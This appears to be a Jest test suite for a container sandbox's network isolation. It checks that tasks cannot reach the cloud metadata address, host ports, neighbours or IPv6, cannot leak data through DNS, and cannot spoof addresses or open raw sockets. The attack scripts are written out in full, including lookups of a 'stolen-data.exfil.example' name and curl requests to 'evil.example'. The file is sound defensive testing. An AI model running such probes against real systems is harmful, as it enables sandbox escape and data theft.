import { readFileSync } from 'node:fs'
import { networkInterfaces } from 'node:os'
import { eventually } from '@agirunner/test-kit'
import { afterAll, beforeAll, describe, expect, test } from '@jest/globals'
import { type Neighbour, NetworkFixture, sh, type Wanted } from './network-fixture.js'
import {
  addAddress,
  dnsQuery,
  listenUdp,
  type PrivateMachine,
  perl,
  plainNetwork,
  reach,
  reachUdp,
  SECRET,
  serveSecret,
  startPrivateMachine,
} from './network-places.js'

const METADATA = '169.254.169.254'
const LISTENER = `perl -MIO::Socket::INET -e '$l = IO::Socket::INET->new(LocalPort => 8080, Listen => 9, ReuseAddr => 1);
  while ($c = $l->accept) { sysread($c, $b, 999); print $c "HTTP/1.0 200 OK\\r\\n\\r\\n${SECRET}"; close $c }'`

const NETWORKS: readonly ['open' | 'allowlist', Wanted][] = [
  ['open', 'open'],
  ['allowlist', ['good.example']],
]

let fixture: NetworkFixture
let machine: PrivateMachine
let plain: { name: string; close(): Promise<void> }
let web: { port: number; close(): void }
let metadata: { port: number; close(): void }
let udp: Awaited<ReturnType<typeof listenUdp>>
let plainNeighbour: string
let neighbours: Partial<Record<'open' | 'allowlist', Neighbour>>
const undo: (() => unknown)[] = []

beforeAll(async () => {
  fixture = await NetworkFixture.create()
  undo.push(async () => expect(await fixture.close()).toEqual([]))
  machine = await startPrivateMachine()
  undo.push(() => machine.close())
  undo.push(await addAddress(METADATA))
  metadata = await serveSecret(METADATA, 80)
  undo.push(() => metadata.close())
  web = await serveSecret('::')
  undo.push(() => web.close())
  udp = await listenUdp('::')
  undo.push(() => udp.close())
  plain = await plainNetwork()
  undo.push(() => plain.close())
  const id = await sh('docker', 'run', '-d', '--rm', '--network', plain.name, imageOf(), 'sh', '-c', LISTENER)
  plainNeighbour = id.trim()
  undo.push(() => sh('docker', 'rm', '-f', plainNeighbour))
  neighbours = {}
  for (const [mode, wanted] of NETWORKS) {
    const neighbour = await fixture.neighbour(wanted, LISTENER)
    neighbours[mode] = neighbour
    undo.push(() => neighbour.end())
  }
})
afterAll(async () => {
  for (const one of undo.reverse()) await one()
})

const imageOf = () => process.env.AGIRUNNER_TEST_IMAGE ?? 'agirunner/debian-base:1'

async function addressOf(container: string): Promise<string> {
  const format = '{{range .NetworkSettings.Networks}}{{.IPAddress}}{{end}}'
  return (await sh('docker', 'inspect', '--format', format, container)).trim()
}

/** The gateway of the network that the script runs in, as the kernel tells it inside. */
const GATEWAY = `gw=$(perl -lane 'print join ".", map hex, reverse $F[2] =~ /../g if $F[1] eq "00000000"' /proc/net/route | head -1)`

const ownAddresses = () =>
  Object.values(networkInterfaces())
    .flatMap(list => list ?? [])
    .filter(one => one.family === 'IPv4' && !one.internal)
    .map(one => one.address)

/** Each attack: a script that prints the secret where it succeeds, for the network that it runs in. */
const ATTACKS: readonly [string, (mode: 'plain' | 'open' | 'allowlist') => string | Promise<string>][] = [
  ['the metadata address', () => reach(`http://${METADATA}/latest/meta-data/`)],
  [
    'the ports of this machine, by each of its addresses',
    () =>
      ownAddresses()
        .map(address => reach(`http://${address}:${web.port}/`))
        .join('; '),
  ],
  ['the ports of this machine, by the gateway', () => `${GATEWAY}; ${reach(`http://'$gw':${web.port}/`)}`],
  [
    'the gateway by UDP',
    () => `${GATEWAY}; ${reachUdp(`'"$gw"'`, udp.port).replace(`'\\''"$gw"'\\''`, `'"$gw"'`)}`,
  ],
  ['another machine of a private network', () => reach(`http://${machine.address}:${machine.port}/`)],
  [
    'a neighbour',
    async mode => {
      const address = mode === 'plain' ? await addressOf(plainNeighbour) : neighbours[mode]?.address
      return reach(`http://${address}:8080/`)
    },
  ],
]

describe.each(ATTACKS)('%s', (_name, script) => {
  test('is reached from a network without rules, which is the control', async () => {
    const { output } = await fixture.runIn({ name: plain.name, dns: [], env: {} }, await script('plain'))
    expect(output).toContain(SECRET)
  })

  test.each(NETWORKS)('is out of reach in mode %s, for a user and for root', async (mode, wanted) => {
    for (const profile of ['user', 'root'] as const) {
      const { output } = await fixture.run(wanted, await script(mode), { profile })
      expect(output).not.toContain(SECRET)
      expect(output).not.toBe('')
    }
  })

  test('is out of reach in mode none', async () => {
    const { output } = await fixture.run('none', await script('open'))
    expect(output).not.toContain(SECRET)
  })
})

describe('mode none', () => {
  test('has no interface but its own loopback', async () => {
    const { output } = await fixture.run(
      'none',
      'cat /proc/net/dev | tail -n +3; cat /proc/net/route | tail -n +2',
    )
    expect(output.trim()).toMatch(/^lo:[^\n]*$/)
  })
})

describe('the Redis and the engine of the runtime', () => {
  test('are not reached through the proxy, even where the operator opens everything', async () => {
    const own = [{ host: 'localhost', port: web.port }]
    const generous = await NetworkFixture.create({ opened: '0.0.0.0/0', own })
    const other = await serveSecret('0.0.0.0')
    try {
      const [address = ''] = ownAddresses()
      const hosts = [address, '127.0.0.1'].flatMap(host => [`${host}:${web.port}`, `${host}:${other.port}`])
      const ask = (port: number) =>
        `for host in ${address} 127.0.0.1; do curl -s -m 3 --noproxy '' http://$host:${port}/; done`
      const attacked = await generous.run(hosts, ask(web.port))
      expect(attacked.output).toMatch(
        /the runtime itself listens there[\s\S]*the runtime itself listens there/,
      )
      // The control: what is not the runtime's own is reached by the same way.
      expect((await generous.run(hosts, ask(other.port))).output).toBe(SECRET.repeat(2))
    } finally {
      other.close()
      expect(await generous.close()).toEqual([])
    }
  })
})

describe('names', () => {
  const NAME = 'stolen-data.exfil.example'
  let resolver: Awaited<ReturnType<typeof listenUdp>>
  let near: string

  beforeAll(async () => {
    near = machine.address.replace(/2$/, '1')
    resolver = await listenUdp(near, 53)
  })
  afterAll(() => resolver.close())

  const lookUps = () => [
    `getent hosts ${NAME}`,
    dnsQuery('127.0.0.11', 53, NAME),
    dnsQuery(near, 53, NAME),
    `${GATEWAY}; ${dnsQuery(`'"$gw"'`, 53, NAME).replace(`'\\''"$gw"'\\''`, `'"$gw"'`)}`,
    ...nameservers().map(address => dnsQuery(address, 53, NAME)),
  ]

  test('leave a network without rules by the engine’s resolver, which is the control', async () => {
    const network = { name: plain.name, dns: [near], env: {} }
    await fixture.runIn(network, `getent hosts ${NAME}; ${dnsQuery('127.0.0.11', 53, NAME)}; true`)
    expect(resolver.got.join()).toContain('stolen-data')
  })

  test.each([
    ['allowlist', ['good.example'] as Wanted],
    ['none', 'none' as Wanted],
  ])('leave mode %s by no resolver', async (_mode, wanted) => {
    resolver.got.length = 0
    for (const script of lookUps()) {
      const { output } = await fixture.run(wanted, `${script}; echo "status $?"`)
      expect(output).not.toContain(SECRET)
    }
    expect(resolver.got).toEqual([])
  })

  test('of other tasks are not told by the engine’s resolver', async () => {
    const ask = (address: string) => `getent hosts ${address}; echo done`
    const told = await fixture.runIn(
      { name: plain.name, dns: [], env: {} },
      ask(await addressOf(plainNeighbour)),
    )
    expect(told.output).not.toBe('done\n')
    for (const [mode, wanted] of NETWORKS) {
      const { output } = await fixture.run(wanted, ask(neighbours[mode]?.address ?? ''))
      expect(output).toBe('done\n')
    }
  })
})

function nameservers(): string[] {
  const text = readFileSync('/etc/resolv.conf', 'utf8')
  return [...text.matchAll(/^nameserver (\d+\.\d+\.\d+\.\d+)$/gm)].map(([, address]) => address ?? '')
}

describe('below TCP and UDP', () => {
  const RAW = perl(`
    for my $one ([AF_INET, SOCK_RAW, 1], [AF_INET, SOCK_RAW, 255], [17, SOCK_RAW, 768], [17, SOCK_DGRAM, 768], [AF_INET6, SOCK_RAW, 58]) {
      print socket(my $s, $one->[0], $one->[1], $one->[2]) ? "made @$one\\n" : "refused @$one\\n";
    }
  `)
  const PING = `${GATEWAY}; ${perl(`
    socket(my $s, AF_INET, SOCK_DGRAM, 1) or die "socket: $!";
    connect($s, pack_sockaddr_in(0, inet_aton($ENV{gw}))) or die "connect: $!";
    send($s, pack("CCnnn", 8, 0, 0, 1, 1) . "hello", 0) or die "send: $!";
    local $SIG{ALRM} = sub { die "nothing came back" };
    alarm 2;
    defined recv($s, my $answer, 2000, 0) or die "recv: $!";
    print "${SECRET}";
  `)}`.replace('gw=$(', 'export gw; gw=$(')

  test('no raw and no packet socket is made; with the capability, which is the control, it is', async () => {
    const args = ['run', '--rm', '--network', plain.name, '--cap-add', 'NET_RAW', imageOf(), 'sh', '-c', RAW]
    expect(await sh('docker', ...args)).toMatch(/made 2 3 1\b[\s\S]*made 17 3/)
    for (const [, wanted] of [...NETWORKS, ['none', 'none' as Wanted] as const]) {
      for (const profile of ['user', 'root'] as const) {
        expect((await fixture.run(wanted, RAW, { profile })).output).not.toContain('made')
      }
    }
  })

  test('ICMP to the gateway is answered without rules, and not with them', async () => {
    expect((await fixture.runIn({ name: plain.name, dns: [], env: {} }, PING)).output).toContain(SECRET)
    for (const [, wanted] of NETWORKS) expect((await fixture.run(wanted, PING)).output).not.toContain(SECRET)
  })

  test('there is no IPv6', async () => {
    const subnet = `fd${(process.pid % 256).toString(16).padStart(2, '0')}:a61::/64`
    const v6 = await plainNetwork('--ipv6', '--subnet', subnet)
    try {
      const script = (address: string) =>
        `cat /proc/net/if_inet6; ${reach(`http://[${address}]:${web.port}/`)}`
      const gateway = subnet.replace('/64', '1')
      expect((await fixture.runIn({ name: v6.name, dns: [], env: {} }, script(gateway))).output).toContain(
        SECRET,
      )
      for (const [, wanted] of [...NETWORKS, ['none', 'none' as Wanted] as const]) {
        const { output } = await fixture.run(wanted, script(gateway))
        expect(output).not.toContain(SECRET)
        expect(output).not.toMatch(/fe80|eth0/)
      }
    } finally {
      await v6.close()
    }
  })

  test('IPv6 that somebody switches on in a task’s network is refused by rules', async () => {
    for (const [at, [, wanted]] of NETWORKS.entries()) {
      const prefix = `fd77:a6${at}:`
      const task = await fixture.neighbour(wanted, 'sleep 60')
      try {
        const pid = (await sh('docker', 'inspect', '--format', '{{.State.Pid}}', task.id)).trim()
        const inside = (...args: string[]) => sh('nsenter', '-t', pid, '-n', ...args)
        await inside('sysctl', '-qw', 'net.ipv6.conf.all.disable_ipv6=0', 'net.ipv6.conf.eth0.disable_ipv6=0')
        await inside('ip', 'addr', 'add', `${prefix}:2/64`, 'dev', 'eth0', 'nodad')
        const bridge = await bridgeOf(task.network.name)
        await sh('sysctl', '-qw', `net.ipv6.conf.${bridge}.disable_ipv6=0`)
        await sh('ip', 'addr', 'add', `${prefix}:1/64`, 'dev', bridge, 'nodad')
        const ask = () =>
          inside('curl', '-gsS', '-m', '3', '--noproxy', '*', `http://[${prefix}:1]:${web.port}/`)
        await expect(ask()).rejects.toThrow(/connect/i)
        // The control: without the rules this is a way to the machine.
        await sh('ip6tables', '-w', '10', '-I', 'INPUT', '1', '-i', bridge, '-j', 'ACCEPT')
        try {
          // A neighbour that did not answer is not asked again at once.
          await eventually(async () => (await ask()) === SECRET)
        } finally {
          await sh('ip6tables', '-w', '10', '-D', 'INPUT', '-i', bridge, '-j', 'ACCEPT')
        }
      } finally {
        await task.end()
      }
    }
  })
})

async function bridgeOf(network: string): Promise<string> {
  const format = '{{index .Options "com.docker.network.bridge.name"}}'
  return (await sh('docker', 'network', 'inspect', '--format', format, network)).trim()
}

describe('the address of another task', () => {
  test('is of no use, even to who could take it', async () => {
    const victim = await fixture.neighbour(['*.example'], 'sleep 60')
    const attacker = await fixture.neighbour(['good.example'], 'sleep 60')
    try {
      const pid = (await sh('docker', 'inspect', '--format', '{{.State.Pid}}', attacker.id)).trim()
      const inside = (...args: string[]) => sh('nsenter', '-t', pid, '-n', ...args)
      const proxy = victim.network.env.http_proxy ?? ''
      const ask = (from: string, by: string) =>
        inside('curl', '-sS', '-m', '3', '--interface', from, '-x', by, 'http://evil.example/').catch(error =>
          String(error.stderr),
        )
      // Its own proxy answers, and refuses.
      expect(await ask(attacker.address, attacker.network.env.http_proxy ?? '')).toContain('not allowed')
      expect(await ask(attacker.address, proxy)).toMatch(/connect|timed out/i)
      await inside('ip', 'addr', 'add', `${victim.address}/32`, 'dev', 'eth0')
      expect(await ask(victim.address, proxy)).toMatch(/connect|timed out/i)
      // The control: at its own place the same address is served, and has what the victim's task may reach.
      const victimPid = (await sh('docker', 'inspect', '--format', '{{.State.Pid}}', victim.id)).trim()
      const own = await sh(
        'nsenter',
        '-t',
        victimPid,
        '-n',
        'curl',
        '-sS',
        '-m',
        '3',
        '-x',
        proxy,
        'http://evil.example/',
      )
      expect(own).toContain('has no address')
    } finally {
      await victim.end()
      await attacker.end()
    }
  })

  test('can be neither bound nor taken', async () => {
    const other = neighbours.allowlist?.address ?? ''
    const script = `${GATEWAY}; export gw; ${perl(`
      socket(my $s, AF_INET, SOCK_STREAM, 0);
      setsockopt($s, 0, 15, pack("i", 1));
      setsockopt($s, 0, 19, pack("i", 1)) and print "transparent\\n";
      bind($s, pack_sockaddr_in(0, inet_aton("${other}"))) or print "bind: $!\\n";
      connect($s, pack_sockaddr_in(8080, inet_aton($ENV{gw}))) ? print "${SECRET}" : print "connect: $!\\n";
    `)}; ls -l /proc/sys/net/ipv4/ip_forward; echo 1 2>&1 >/proc/sys/net/ipv4/conf/all/forwarding || true; unshare -Urn true 2>&1`
    for (const profile of ['user', 'root'] as const) {
      const { output } = await fixture.run(['good.example'], script, { profile })
      expect(output).not.toContain(SECRET)
      expect(output).not.toContain('transparent')
      expect(output).toMatch(/connect: /)
      expect(output).toMatch(/unshare failed/)
    }
  })
})
